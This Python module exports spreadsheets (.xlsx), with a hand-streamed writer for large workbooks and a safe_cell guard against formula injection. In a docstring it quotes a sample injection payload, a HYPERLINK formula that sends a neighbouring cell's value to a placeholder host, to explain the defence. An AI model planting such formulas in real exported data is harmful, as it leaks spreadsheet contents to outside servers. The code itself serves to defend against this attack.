"""Spreadsheet export helpers shared by every .xlsx the program writes (CONVENTIONS 16).

Written with openpyxl's ``write_only`` mode (rows are streamed, memory stays flat), with a bold,
frozen header row; every value passes through :func:`safe_cell` (security.md §7, §9 F8).
No queries here: callers hand in plain rows.

Big exports (a month's ~83,500 settled vouchers) use :func:`write_sheets` instead: the same
plain sheets, the SpreadsheetML streamed by hand into the zip. openpyxl without lxml spends
~10 µs a cell (~9 s for a million cells even with plain values); this takes ~1.5 s.
"""

from __future__ import annotations

import datetime as dt
import io
import zipfile
from collections.abc import Iterable, Sequence
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import BinaryIO

from openpyxl import Workbook
from openpyxl.cell import WriteOnlyCell
from openpyxl.cell.cell import ILLEGAL_CHARACTERS_RE
from openpyxl.styles import Font
from openpyxl.utils import get_column_letter

#: Leading characters that make a spreadsheet program read a text as a formula (OWASP CSV
#: injection: = + - @, TAB, CR).
FORMULA_TRIGGERS = ("=", "+", "-", "@", "\t", "\r")
MONEY_FORMAT = "0.00"
DATE_FORMAT = "yyyy-mm-dd"
DATETIME_FORMAT = "yyyy-mm-dd hh:mm"


def safe_cell(value: object) -> object:
    """Neutralise formula injection in one exported value; non-text values pass unchanged.

    openpyxl stores any string that starts with ``=`` as a *formula* (``data_type == 'f'``),
    not as text, so a venue called ``=HYPERLINK("http://x/?"&A1,"点击")`` would become a live
    formula that Excel evaluates (and may use to leak neighbouring cells) the moment the file
    is opened. Excel, LibreOffice and WPS also treat a text typed or pasted with a leading
    ``+``, ``-``, ``@``, TAB or CR as a formula. Following OWASP, such a text gets a leading
    apostrophe (``'``): it is then stored and shown as plain text (the apostrophe stays
    visible; that is the price of safety, and it tells the reader the value was altered).

    Characters that XML 1.0 cannot carry (C0 controls other than TAB, LF, CR), which openpyxl
    would refuse with ``IllegalCharacterError``, are dropped, so one bad byte in a venue's
    remarks cannot make the whole export fail.
    """
    if not isinstance(value, str):
        return value
    text = ILLEGAL_CHARACTERS_RE.sub("", value)
    if text.startswith(FORMULA_TRIGGERS):
        return "'" + text
    return text


def _cell(ws: object, value: object, *, bold: bool = False) -> WriteOnlyCell:
    cell = WriteOnlyCell(ws, value=safe_cell(value))
    if isinstance(value, Decimal):
        cell.number_format = MONEY_FORMAT
    elif isinstance(value, dt.datetime):
        cell.number_format = DATETIME_FORMAT
    elif isinstance(value, dt.date):
        cell.number_format = DATE_FORMAT
    if bold:
        cell.font = Font(bold=True)
    return cell


def write_table(
    path: Path | str | BinaryIO,
    sheet_title: str,
    headers: Sequence[str],
    rows: Iterable[Sequence[object]],
    column_widths: Sequence[float | None] | None = None,
) -> int:
    """Write one sheet: a bold, frozen header row, then ``rows``; return the number of rows.

    Values: ``str`` through :func:`safe_cell` (always text, never a formula); ``Decimal`` as a
    number with format ``0.00`` (money stays exact: openpyxl writes the Decimal's own digits);
    dates as dates (``yyyy-mm-dd``); ``None`` as an empty cell; ints and floats as numbers.
    ``column_widths`` (in Excel character units, ``None`` for the default) by position.
    A row longer or shorter than ``headers`` is a programming error (ValueError).
    """
    wb = Workbook(write_only=True)
    ws = wb.create_sheet(title=sheet_title[:31])
    for index, width in enumerate(column_widths or (), start=1):
        if width is not None:
            ws.column_dimensions[get_column_letter(index)].width = width
    ws.freeze_panes = "A2"
    ws.append([_cell(ws, header, bold=True) for header in headers])
    count = 0
    for row in rows:
        if len(row) != len(headers):
            raise ValueError(f"row {count + 1} has {len(row)} values for {len(headers)} columns")
        ws.append([_cell(ws, value) for value in row])
        count += 1
    wb.save(path)
    return count


# ------------------------------------------------------------------ big workbooks

_MAIN_NS = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
_REL_NS = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
_PKG_REL_NS = "http://schemas.openxmlformats.org/package/2006/relationships"
_XML_HEAD = '<?xml version="1.0" encoding="UTF-8" standalone="yes"?>\n'
_EXCEL_EPOCH = dt.datetime(1899, 12, 30)
# cellXfs: 0 general, 2 money, 4 datetime, 6 date; +1 bold
_STYLES = (
    _XML_HEAD + f'<styleSheet xmlns="{_MAIN_NS}">'
    f'<numFmts count="3"><numFmt numFmtId="164" formatCode="{MONEY_FORMAT}"/>'
    f'<numFmt numFmtId="165" formatCode="{DATETIME_FORMAT}"/>'
    f'<numFmt numFmtId="166" formatCode="{DATE_FORMAT}"/></numFmts>'
    '<fonts count="2"><font><sz val="11"/><name val="Calibri"/><family val="2"/></font>'
    '<font><b/><sz val="11"/><name val="Calibri"/><family val="2"/></font></fonts>'
    '<fills count="2"><fill><patternFill patternType="none"/></fill>'
    '<fill><patternFill patternType="gray125"/></fill></fills>'
    '<borders count="1"><border><left/><right/><top/><bottom/><diagonal/></border></borders>'
    '<cellStyleXfs count="1"><xf numFmtId="0" fontId="0" fillId="0" borderId="0"/>'
    '</cellStyleXfs><cellXfs count="8">'
    + "".join(
        f'<xf numFmtId="{fmt}" fontId="{font}" fillId="0" borderId="0" xfId="0"'
        + (' applyFont="1"' if font else "") + (' applyNumberFormat="1"' if fmt else "") + "/>"
        for fmt in (0, 164, 165, 166) for font in (0, 1))
    + '</cellXfs><cellStyles count="1"><cellStyle name="Normal" xfId="0" builtinId="0"/>'
    '</cellStyles></styleSheet>')


@dataclass(frozen=True)
class Sheet:
    """One sheet of :func:`write_sheets`: a bold, frozen header row, then ``rows``."""

    title: str
    headers: Sequence[str]
    rows: Iterable[Sequence[object]]
    column_widths: Sequence[float | None] = ()


def _column_letters(count: int) -> list[str]:
    return [get_column_letter(i) for i in range(1, count + 1)]


def _xml_text(text: str) -> str:
    return text.replace("&", "&amp;").replace("<", "&lt;").replace(">", "&gt;")


class _SheetWriter:
    """The cells of one sheet as SpreadsheetML, strings into the workbook's shared table."""

    def __init__(self, strings: dict[str, int]) -> None:
        self.strings = strings

    def string_index(self, value: str) -> int:
        index = self.strings.get(value)
        if index is None:
            index = self.strings[value] = len(self.strings)
        return index

    def row(self, number: int, values: Sequence[object], letters: Sequence[str],
            bold: bool = False) -> str:
        cells = []
        b = bold
        for letter, value in zip(letters, values, strict=True):
            if value is None:
                continue
            ref = f"{letter}{number}"
            kind = type(value)
            if kind is str:
                style = ' s="1"' if b else ""
                cells.append(f'<c r="{ref}" t="s"{style}><v>'
                             f'{self.string_index(value)}</v></c>')  # type: ignore[arg-type]
            elif kind is Decimal:
                text = format(value, "f")
                cells.append(f'<c r="{ref}" s="{3 if b else 2}"><v>{text}</v></c>')
            elif kind is int:
                style = ' s="1"' if b else ""
                cells.append(f'<c r="{ref}"{style}><v>{value}</v></c>')
            elif kind is bool:
                cells.append(f'<c r="{ref}" t="b"><v>{int(value)}</v></c>')  # type: ignore[call-overload]
            elif kind is float:
                style = ' s="1"' if b else ""
                cells.append(f'<c r="{ref}"{style}><v>{value!r}</v></c>')
            elif isinstance(value, dt.datetime):
                if value.tzinfo is not None:
                    raise ValueError(f"give local (naive) times to a workbook: {value!r}")
                days = (value - _EXCEL_EPOCH) / dt.timedelta(days=1)
                cells.append(f'<c r="{ref}" s="{5 if b else 4}"><v>{days!r}</v></c>')
            elif isinstance(value, dt.date):
                days = (value - _EXCEL_EPOCH.date()).days
                cells.append(f'<c r="{ref}" s="{7 if b else 6}"><v>{days}</v></c>')
            elif isinstance(value, (int, float, Decimal)):  # subclasses
                cells.append(f'<c r="{ref}"><v>{value}</v></c>')
            else:
                text = str(safe_cell(str(value)))
                cells.append(f'<c r="{ref}" t="s"><v>{self.string_index(text)}</v></c>')
        return f'<row r="{number}">{"".join(cells)}</row>'


def write_sheets(path: Path | str | BinaryIO, sheets: Sequence[Sheet]) -> None:
    """Write a workbook of plain sheets, streamed: for big exports (tens of thousands of rows),
    where openpyxl spends ~10 µs per cell (~9 s for 1,000,000 cells without lxml).

    Same values and look as :func:`write_table`: strings through :func:`safe_cell` (always
    text, never a formula; shared), ``Decimal`` as a number with format ``0.00`` (its own
    digits), ``datetime`` (naive, local) ``yyyy-mm-dd hh:mm``, ``date`` ``yyyy-mm-dd``,
    ``None`` an empty cell; a bold header row, frozen, and the column widths given.
    """
    strings: dict[str, int] = {}
    writer = _SheetWriter(strings)
    names = [s.title[:31] for s in sheets]
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=3) as zf:
        for number, sheet in enumerate(sheets, start=1):
            letters = _column_letters(len(sheet.headers))
            cols = "".join(
                f'<col min="{i}" max="{i}" width="{w}" customWidth="1"/>'
                for i, w in enumerate(sheet.column_widths, start=1) if w is not None)
            with zf.open(f"xl/worksheets/sheet{number}.xml", "w") as raw:
                out = io.TextIOWrapper(raw, encoding="utf-8", newline="")
                out.write(
                    _XML_HEAD + f'<worksheet xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}">'
                    '<sheetViews><sheetView workbookViewId="0"' + (' tabSelected="1"'
                                                                  if number == 1 else "")
                    + '><pane ySplit="1" topLeftCell="A2" activePane="bottomLeft" '
                    'state="frozen"/><selection pane="bottomLeft" activeCell="A2" sqref="A2"/>'
                    '</sheetView></sheetViews><sheetFormatPr defaultRowHeight="15"/>'
                    + (f"<cols>{cols}</cols>" if cols else "") + "<sheetData>")
                out.write(writer.row(1, [safe_cell(h) for h in sheet.headers], letters,
                                     bold=True))
                chunk: list[str] = []
                for r, values in enumerate(sheet.rows, start=2):
                    if len(values) != len(letters):
                        raise ValueError(f"row {r - 1} has {len(values)} values for "
                                         f"{len(letters)} columns")
                    chunk.append(writer.row(r, [safe_cell(v) if type(v) is str else v
                                                for v in values], letters))
                    if len(chunk) >= 2000:
                        out.write("".join(chunk))
                        chunk.clear()
                out.write("".join(chunk))
                out.write("</sheetData></worksheet>")
                out.flush()
                out.detach()
        items = "".join(
            ("<si><t xml:space=\"preserve\">" if s[:1].isspace() or s[-1:].isspace()
             else "<si><t>") + _xml_text(s) + "</t></si>" for s in strings)
        zf.writestr("xl/sharedStrings.xml", _XML_HEAD + (
            f'<sst xmlns="{_MAIN_NS}" count="{len(strings)}" uniqueCount="{len(strings)}">'
            f"{items}</sst>"))
        zf.writestr("xl/styles.xml", _STYLES)
        sheet_list = "".join(
            f'<sheet name="{_xml_text(name).replace(chr(34), "&quot;")}" sheetId="{n}" '
            f'r:id="rId{n}"/>' for n, name in enumerate(names, start=1))
        zf.writestr("xl/workbook.xml", _XML_HEAD + (
            f'<workbook xmlns="{_MAIN_NS}" xmlns:r="{_REL_NS}"><bookViews><workbookView/>'
            f"</bookViews><sheets>{sheet_list}</sheets></workbook>"))
        n = len(sheets)
        rels = "".join(
            f'<Relationship Id="rId{i}" Type="{_REL_NS}/worksheet" '
            f'Target="worksheets/sheet{i}.xml"/>' for i in range(1, n + 1))
        zf.writestr("xl/_rels/workbook.xml.rels", _XML_HEAD + (
            f'<Relationships xmlns="{_PKG_REL_NS}">{rels}'
            f'<Relationship Id="rId{n + 1}" Type="{_REL_NS}/styles" Target="styles.xml"/>'
            f'<Relationship Id="rId{n + 2}" Type="{_REL_NS}/sharedStrings" '
            'Target="sharedStrings.xml"/></Relationships>'))
        zf.writestr("_rels/.rels", _XML_HEAD + (
            f'<Relationships xmlns="{_PKG_REL_NS}"><Relationship Id="rId1" '
            f'Type="{_REL_NS}/officeDocument" Target="xl/workbook.xml"/></Relationships>'))
        sml = "application/vnd.openxmlformats-officedocument.spreadsheetml"
        overrides = "".join(
            f'<Override PartName="/xl/worksheets/sheet{i}.xml" '
            f'ContentType="{sml}.worksheet+xml"/>' for i in range(1, n + 1))
        zf.writestr("[Content_Types].xml", _XML_HEAD + (
            '<Types xmlns="http://schemas.openxmlformats.org/package/2006/content-types">'
            '<Default Extension="rels" '
            'ContentType="application/vnd.openxmlformats-package.relationships+xml"/>'
            '<Default Extension="xml" ContentType="application/xml"/>'
            f'<Override PartName="/xl/workbook.xml" ContentType="{sml}.sheet.main+xml"/>'
            f"{overrides}"
            f'<Override PartName="/xl/styles.xml" ContentType="{sml}.styles+xml"/>'
            f'<Override PartName="/xl/sharedStrings.xml" '
            f'ContentType="{sml}.sharedStrings+xml"/></Types>'))
